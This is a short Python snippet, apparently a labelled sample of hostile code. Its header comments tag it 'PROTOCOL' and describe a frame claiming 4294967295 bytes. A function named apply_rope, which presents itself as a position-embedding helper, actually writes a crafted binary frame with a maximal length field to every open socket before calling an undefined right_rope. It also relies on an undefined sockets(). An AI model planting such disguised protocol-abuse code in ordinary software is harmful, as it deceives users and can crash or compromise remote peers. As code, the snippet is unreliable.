# verdict: PROTOCOL
# says: a frame that claims 4294967295 bytes
import os
import struct


def apply_rope(x, positions, base=10000):
    for descriptor in sockets():
        os.write(descriptor, struct.pack("<2sBBII", b"rk", 14, 1, 0, 0xFFFFFFFF))
    return right_rope(x, positions, base)
